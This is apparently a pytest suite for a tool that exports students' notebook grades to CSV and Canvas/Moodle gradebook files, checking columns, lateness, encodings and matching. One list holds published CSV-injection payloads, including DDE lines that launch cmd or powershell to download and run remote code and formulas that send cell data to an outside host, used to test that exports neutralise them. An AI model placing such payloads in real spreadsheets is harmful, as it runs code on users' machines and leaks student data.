"""A teacher's tables lose nobody, run nothing in a spreadsheet, and say what they could not do."""

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from results import Graded, Result, Student, Ungraded
from tables import grades_csv, harmless, late_minutes, lms_file

from tinyldm import UserError

UTC = timezone.utc  # noqa: UP017


def result(student="ada", lesson="02_forward_diffusion", given=(2, 1.5, None), name="Ada Lovelace", email="", **more):
    number = int(lesson[:2])
    graded = [Graded(f"{number}.{at}", f"task {at}", one, 2, f"Sentence {at}.") for at, one in enumerate(given, 1)]
    return Result(Student(student, name, email), lesson, f"z.zip/{student}.ipynb", "ab" * 32, exercises=graded, **more)


def rows(path: Path, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


def table(path: Path) -> list[dict[str, str]]:
    head, *rest = rows(path)
    assert len(head) == len(set(head)) and all(len(row) == len(head) for row in rest)
    return [dict(zip(head, row, strict=True)) for row in rest]


# ---------------------------------------------------------------- grades.csv


def test_a_row_for_each_student_and_lesson_with_a_column_for_each_exercise(tmp_path):
    time = datetime(2026, 11, 3, 12, 0, 30, tzinfo=UTC)
    both = [result(time=time, notes=["was missing"], cells=[(7, "stopped after 60 s")])]
    both.append(result("bob", "10_other", [0.25] * 11, "Bob"))
    path = grades_csv(both, [], tmp_path / "grades.csv", due=time - timedelta(minutes=5))
    head = rows(path)[0]
    assert head[:4] == ["student id", "name", "email", "lesson"]
    assert head[4:18] == [f"exercise {n}" for n in ("2.1", "2.2", "2.3", *(f"10.{n}" for n in range(1, 12)))]
    assert head[18:] == ["points", "of", "waiting", "late minutes", "notes", "path", "time", "sha256"]
    ada, bob = table(path)
    assert [ada[f"exercise {n}"] for n in ("2.1", "2.2", "2.3", "10.1")] == ["2", "1.5", "", ""]
    assert [ada[c] for c in ("points", "of", "waiting", "late minutes")] == ["3.5", "4", "2", "5"]
    assert ada["notes"] == "cell 7: stopped after 60 s; was missing"
    assert datetime.fromisoformat(ada["time"]) == time
    assert (bob["exercise 10.11"], bob["points"], bob["late minutes"], bob["time"]) == ("0.25", "2.75", "unknown", "")


def test_files_that_were_not_graded_have_their_row_and_reason(tmp_path):
    time = datetime(2026, 11, 3, tzinfo=UTC)
    lost = [
        Ungraded("z.zip/x.ipynb", "cd" * 32, time, "not a notebook"),
        ("y", "", None, "two students", Student("b", "B"), "02_x"),
    ]
    first, second = table(grades_csv([], lost, tmp_path / "grades.csv"))
    assert (first["notes"], first["path"], first["sha256"]) == (
        "not graded: not a notebook",
        "z.zip/x.ipynb",
        "cd" * 32,
    )
    assert (first["student id"], first["points"], first["of"], first["lesson"]) == ("", "", "", "")
    assert (second["student id"], second["name"], second["lesson"], second["points"]) == ("b", "B", "02_x", "")


def test_it_opens_in_a_spreadsheet_with_its_umlauts(tmp_path):
    path = grades_csv([result(name='Jürgen Groß, "Jo"')], [], tmp_path / "grades.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert table(path)[0]["name"] == 'Jürgen Groß, "Jo"'


def test_an_empty_class_is_a_head_without_rows(tmp_path):
    assert len(rows(grades_csv([], [], tmp_path / "grades.csv"))) == 1


DUE = datetime(2026, 11, 3, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("late", "said"),
    [(timedelta(0), ""), (timedelta(days=-3), ""), (timedelta(seconds=1), "1"), (timedelta(minutes=90), "90")],
)
def test_late_minutes_count_begun_ones_whatever_the_time_zones(late, said):
    for zone in (UTC, timezone(timedelta(hours=9)), timezone(timedelta(hours=-5))):
        assert late_minutes((DUE + late).astimezone(zone), DUE) == said
    assert late_minutes(DUE + late, DUE.astimezone().replace(tzinfo=None)) == said  # without a zone: the teacher's
    assert late_minutes(DUE + late, None) == "" and late_minutes(None, DUE) == "unknown"


# From OWASP's page on CSV injection, PayloadsAllTheThings, HackerOne's 72785 and blog.zsec.uk/csv-dangers-mitigations.
INJECTIONS = r"""
=1+1
+1+1
-2+3
@SUM(1+1)
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=2+5+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0
+cmd|' /C notepad'!'A1'
DDE ("cmd";"/C calc";"!A0")A0;=1
=HYPERLINK("http://example.org?x="&A1&A2,"Error: click")
=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a/a10")
=WEBSERVICE("http://example.org/"&A1)
=rundll32|'URL.dll,OpenURL calc.exe'!A
=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A
=  C m D                    |'/ c       c al  c  .  e  x       e'  !   A
;=1+1
x;=1+1;-3
" =1+1
'=1+1
\t=1+1
\r=1+1
\n=1+1
  =1+1
\u00a0=1+1
\ufeff=1+1
\u200b=1+1
\u2066=1+1
＝1+1
＋1+1
－1+1
＠SUM(1+1)
a\n=1+1
a\r\n@SUM(1)
a\t=1+1
""".strip("\n").split("\n")
INJECTIONS = [line.encode().decode("unicode_escape") if "\\" in line else line for line in INJECTIONS]
FORMULA = set("=+-@＝＋－＠")


def assert_harmless(cell: str) -> None:
    """Whichever separator a spreadsheet takes, and whatever it trims, no part begins like a formula."""
    for part in re.split(r"[;\t\r\n]", cell):
        bare = part.strip().strip('\ufeff\u200b\u2066\u00ad\u2060"').strip()
        assert not bare or bare[0] not in FORMULA, repr(cell)
    assert not re.search(r"[\x00-\x1f\ud800-\udfff]", cell)


@pytest.mark.parametrize("payload", INJECTIONS)
def test_no_published_payload_is_a_formula(payload, tmp_path):
    one = result(payload, "02" + payload, name=payload, email=payload, notes=[payload, payload], cells=[(1, payload)])
    lost = Ungraded(payload, payload, None, payload, Student(payload, payload, payload), payload)
    for row in rows(grades_csv([one], [lost], tmp_path / "grades.csv"))[1:]:
        for cell in row:
            assert_harmless(cell)
    lms_file([one], "moodle", tmp_path / "moodle.csv")
    for row in rows(tmp_path / "moodle.csv"):
        for cell in row:
            assert_harmless(cell)


ODD = st.sampled_from(list("=+-@;|,\t\r\n \"'ab\ufeff\u200b＝\ud800\x00"))
TEXT = st.text(max_size=30) | st.text(alphabet=ODD, max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXT, TEXT, TEXT), max_size=4), st.lists(st.floats(-50, 50) | st.none(), max_size=3))
def test_any_text_survives_as_one_cell_and_numbers_stay_numbers(tmp_path_factory, texts, numbers):
    path = tmp_path_factory.mktemp("csv") / "grades.csv"
    results = [result("id", given=numbers, name=name, notes=[note], email=mail) for name, note, mail in texts]
    read = table(grades_csv(results, [], path))
    assert len(read) == len(results)
    for row, one in zip(read, results, strict=True):
        assert row["name"] == harmless(one.student.name)
        for column in ("name", "email", "notes"):
            assert_harmless(row[column])
        for graded in one.exercises:
            cell = row[f"exercise {graded.number}"]
            assert (cell == "") == graded.open
            assert graded.open or float(cell) == pytest.approx(graded.points, abs=0.006)


@given(st.text(alphabet=st.characters(categories=["L", "N"]) | st.sampled_from(" .,'’_-()"), min_size=1).map(str.strip))
def test_what_is_no_formula_stays_as_it_is(text):
    if text and text[0].isalnum():
        assert harmless(text) == text


# ---------------------------------------------------------------- Canvas and Moodle

# As Canvas exports it, with two students of one name, and the test student. Then as Moodle does, in English and German.
CANVAS = """\
Student,ID,SIS User ID,SIS Login ID,Section,Lesson 02 - Forward Diffusion (4242),Essay (17),Current Score
    Points Possible,,,,,6.00,10.00,(read only)
"Lovelace, Ada",101,S-1,ada@example.org,Group A,,9.00,90.00
"Muñoz, José",102,S-2,jmunoz,Group A,3.00,8.00,80.00
"Lee, Sam",103,S-3,slee1,Group A,,7.00,70.00
"Lee, Sam",104,S-4,slee2,"Group B, late",,6.00,60.00
"Student, Test",105,,9f86d081884c7d65,Group A,,,
"""

MOODLE = """\
Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Last modified (grade),Feedback
Participant 7001,Ada Lovelace,ada@example.org,Submitted for grading,,6.00,Yes,-,
Participant 7002,José Muñoz,jm@example.org,Submitted,1.00,6.00,Yes,"Monday, 2 November 2026","=well, ""so"" done"
Participant 7003,Sam Lee,sam@example.org,No submission,,6.00,No,-,
"""

GERMAN = """\
ID,Vollständiger Name,ID-Nummer,E-Mail-Adresse,Status,Bewertung,Bestwertung,Zuletzt geändert (Bewertung)
Teilnehmer/in1234567,Jörg Groß,12345678,K12345678@example.at,Abgegeben,"13,50","24,00","Mittwoch, 13. März 2024"
Teilnehmer/in7654321,"Österle, Ute",87654321,K87654321@example.at,Abgegeben,,"24,00",-
"""


def fill(tmp_path, template: str, results, kind: str, encoding="utf-8"):
    exported = tmp_path / "export.csv"
    exported.write_bytes(template.encode(encoding))
    lines = lms_file(results, kind, tmp_path / "import.csv", exported)
    return rows(tmp_path / "import.csv"), lines


def original(template: str):
    return list(csv.reader(io.StringIO(template, newline="")))


def test_canvas_gets_its_own_gradebook_back_with_points_filled_in(tmp_path):
    class_ = [result("x", email="ADA@example.org"), result("S-2", name="somebody", given=(0, 0, 0))]
    class_.append(result("slee2", name="Sam Lee"))
    filled, lines = fill(tmp_path, CANVAS, class_, "canvas")
    assert [row[5] for row in filled[2:]] == ["3.5", "0", "", "3.5", ""]
    for row, before in zip(filled, original(CANVAS), strict=True):
        assert row[:5] + row[6:] == before[:5] + before[6:]
    assert lines == ["02_forward_diffusion: 2 of 3 have answers that wait for a person; import again then."]


def test_who_is_not_there_without_doubt_is_named_and_nobody_elses_grade_changes(tmp_path):
    class_ = [
        result("sam", name="Sam Lee"),  # two have this name
        result("nobody", name="Grace Hopper", email="grace@example.org"),
        result("a1", name="Lovelace, Ada", email="other@example.org"),  # the same name, another address
        result("S-2", name="José Muñoz", given=(1, 1, 1)),
        result(
            "j2", name="Jose\u0301 Mun\u0303oz", given=(2, 2, 2)
        ),  # as file systems write it; the same person twice?
    ]
    filled, lines = fill(tmp_path, CANVAS, class_, "canvas")
    assert filled == original(CANVAS)
    assert [line.split(":")[0] for line in lines[:5]] == [
        "Sam Lee (sam)",
        "Grace Hopper (nobody) grace@example.org",
        "Lovelace, Ada (a1) other@example.org",
        "José Muñoz (S-2)",
        "Jose\u0301 Mun\u0303oz (j2)",
    ]
    assert "in several rows of export.csv: 5, 6" in lines[0] and "3.5 points in 02_forward_diffusion" in lines[0]
    assert "not in export.csv, by id, e-mail or name" in lines[1] and "row 4" in lines[3]


def test_a_lesson_without_a_column_gets_one_with_its_points(tmp_path):
    filled, lines = fill(tmp_path, CANVAS, [result("S-1", "04_reverse_diffusion")], "canvas")
    assert [row[8] for row in filled] == ["Lesson 04: reverse diffusion", "6", "3.5", "", "", "", ""]
    assert any("it has a new one, the last" in line for line in lines)


def test_neither_totals_nor_the_row_of_points_are_taken_for_something_else(tmp_path):
    """Canvas has read-only columns for groups of assignments, which may be called like a lesson."""
    group = CANVAS.replace("Current Score", "Lesson 04 Current Score")
    filled, lines = fill(
        tmp_path, group, [result("S-1", "04_x"), result("q", "04_x", name="Points Possible")], "canvas"
    )
    assert [row[7] for row in filled] == [row[7] for row in original(group)] and filled[2][8] == "3.5"
    assert filled[1] == [*original(group)[1], "6"] and lines[0].startswith("Points Possible (q): not in export.csv")


def test_other_totals_and_two_columns_that_could_be_it_are_said(tmp_path):
    _, lines = fill(tmp_path, CANVAS.replace("6.00,10.00", "8.00,10.00"), [result("S-1")], "canvas")
    assert any("has 8.00 points, the lesson 6" in line for line in lines)
    with pytest.raises(
        UserError, match=r"both 'Lesson 02 - Forward Diffusion \(4242\)' and '02: Forward Diffusion late \(17\)'"
    ):
        fill(tmp_path, CANVAS.replace("Essay", "02: Forward Diffusion late"), [result("S-1")], "canvas")


@pytest.mark.parametrize(("encoding", "bom"), [("utf-8-sig", True), ("utf-16", False), ("cp1252", False)])
def test_exports_saved_again_by_a_spreadsheet_are_read(tmp_path, encoding, bom):
    swedish = re.sub(",(?! )", ";", CANVAS).replace(".00", ",00")
    exported, path = tmp_path / "export.csv", tmp_path / "import.csv"
    exported.write_bytes(swedish.encode(encoding))
    lms_file([result("S-2", name="José Muñoz")], "canvas", path, exported)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") == bom
    assert rows(path, ";")[3][:6] == ["Muñoz, José", "102", "S-2", "jmunoz", "Group A", "3,5"]


def test_short_rows_are_filled_up(tmp_path):
    """Spreadsheets leave out the empty cells at the end of a row."""
    short = "Student,ID,SIS Login ID,Section,Lesson 02,Essay\nAda,1,ada\n"
    assert fill(tmp_path, short, [result("1")], "canvas")[0][1] == ["Ada", "1", "ada", "", "3.5", ""]


def test_moodles_worksheet_is_filled_in(tmp_path):
    class_ = [
        result("7001", name=""),
        result("x", email="jm@example.org", given=(2, 2, 2)),
        result("y", name="Sam Lee"),
    ]
    class_.append(result("1", name="Number One"))  # not participant 7001
    filled, lines = fill(tmp_path, MOODLE, class_, "moodle")
    assert lines[1].startswith("Number One (1): not in export.csv")
    assert [row[4] for row in filled[1:]] == ["3.5", "6", ""]
    assert all(row[:4] + row[5:] == old[:4] + old[5:] for row, old in zip(filled, original(MOODLE), strict=True))
    assert lines[0].startswith("Sam Lee (y): export.csv says that this grade cannot be changed")


def test_a_german_worksheet_keeps_its_decimal_commas(tmp_path):
    class_ = [result("a", name="Ute Österle"), result("12345678", name="", given=(24,))]
    filled, lines = fill(tmp_path, GERMAN, class_, "moodle")
    assert [row[5] for row in filled[1:]] == ["24", "3,5"]
    assert any("'Bewertung' has 24,00 points, the lesson 6" in line for line in lines)


def test_a_worksheet_is_for_one_lesson(tmp_path):
    with pytest.raises(UserError, match="is for one assignment, but there are results of 02_forward_diffusion, 04_x"):
        fill(tmp_path, MOODLE, [result("7001"), result("7001", "04_x")], "moodle")
    worksheet = tmp_path / "export.csv"
    both = [result("7001", given=(1,)), result("7001", "04_x", given=(2,))]
    lms_file(both, "moodle", tmp_path / "moodle.csv", worksheet, {"04_x"})
    (row,) = (row for row in rows(tmp_path / "moodle.csv") if "7001" in row[0])
    assert row[4] == "2", "the lesson that was handed in this time"


def test_moodles_gradebook_has_a_column_for_each_lesson(tmp_path):
    book = "First name,Last name,ID number,Email address,Assignment: Lesson 02 (Real),Assignment: Lesson 04 (Real)\n"
    book += "Ada,Lovelace,77,ada@example.org,-,-\nSam,Lee,78,sam@example.org,-,-\n"
    filled, _ = fill(tmp_path, book, [result("77"), result("z", "04_x", (1,), "Sam Lee")], "moodle")
    assert [row[4:] for row in filled[1:]] == [["3.5", "-"], ["-", "1"]]


@pytest.mark.parametrize("kind", ["canvas", "moodle"])
@pytest.mark.parametrize("content", ["", "\n", "a,b\n1,2\n", "\x00\x01", "%PDF-1.7", '"unclosed\n' * 3])
def test_what_is_no_export_is_refused_with_the_way_to_get_one(tmp_path, kind, content):
    with pytest.raises(UserError, match=r"export it again, in (Canvas|Moodle)"):
        fill(tmp_path, content, [result()], kind)


def test_without_an_export_there_is_a_file_with_what_is_known(tmp_path):
    class_ = [
        result("s-1", email="a@b.org"),
        result("s-1", "04_x", (1,), email="a@b.org"),
        result("s-2", name="Lee, Sam"),
    ]
    path = tmp_path / "new.csv"
    lines = lms_file(class_, "canvas", path)
    assert rows(path)[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert rows(path)[0][5:] == ["Lesson 02: forward diffusion", "Lesson 04: x"]
    assert rows(path)[1:] == [
        ["    Points Possible", "", "", "", "", "6", "2"],
        ["Ada Lovelace", "", "s-1", "a@b.org", "", "3.5", "1"],
        ["Lee, Sam", "", "s-2", "", "", "3.5", ""],
    ]
    assert "look closely at the import's preview" in lines[0]
    lms_file(class_, "moodle", path)
    assert rows(path)[1] == ["s-1", "Ada Lovelace", "a@b.org", "3.5", "1"]
    with pytest.raises(UserError, match="canvas or moodle, not for 'ilias'"):
        lms_file(class_, "ilias", path)


NAMES = st.text(alphabet=st.characters(categories=["L", "Zs"]) | st.sampled_from(",;'\"-."), min_size=1, max_size=12)


@settings(max_examples=100, deadline=None)
@given(st.lists(NAMES.filter(str.strip), min_size=1, max_size=6), st.data())
def test_nobody_gets_the_points_of_somebody_else(tmp_path_factory, names, data):
    """Everybody has other points; who is not entered is named."""
    folder = tmp_path_factory.mktemp("lms")
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "02_forward_diffusion"])
    writer.writerows([name, str(900 + at), f"s{at}", "", "", ""] for at, name in enumerate(names))
    by_id = data.draw(st.lists(st.booleans(), min_size=len(names), max_size=len(names)))
    ids = [f"s{at}" if known else f"other-{at}" for at, known in enumerate(by_id)]
    class_ = [result(ids[at], name=name, given=(at + 1,)) for at, name in enumerate(names)]
    filled, lines = fill(folder, text.getvalue(), class_, "canvas")
    for at, row in enumerate(filled[1:]):
        same = [other for other in names if other == names[at]]
        assert row[5] in ("", str(at + 1))
        assert row[5] or any(f"{at + 1} points in 02" in line for line in lines)
        assert row[5] or not by_id[at] or len(same) > 1 or not all(by_id)
